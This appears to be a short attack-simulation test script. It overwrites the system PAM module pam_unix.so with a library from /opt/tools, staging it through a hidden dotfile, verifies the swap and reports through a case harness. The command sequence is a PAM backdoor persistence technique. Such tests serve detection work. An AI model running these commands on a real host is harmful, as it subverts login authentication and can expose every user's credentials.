#!/bin/sh
. /opt/case/case.sh

modules=/usr/lib/x86_64-linux-gnu/security
cp /opt/tools/preload.so $modules/.pam_unix.so
mv $modules/.pam_unix.so $modules/pam_unix.so
cmp -s $modules/pam_unix.so /opt/tools/preload.so
took_place
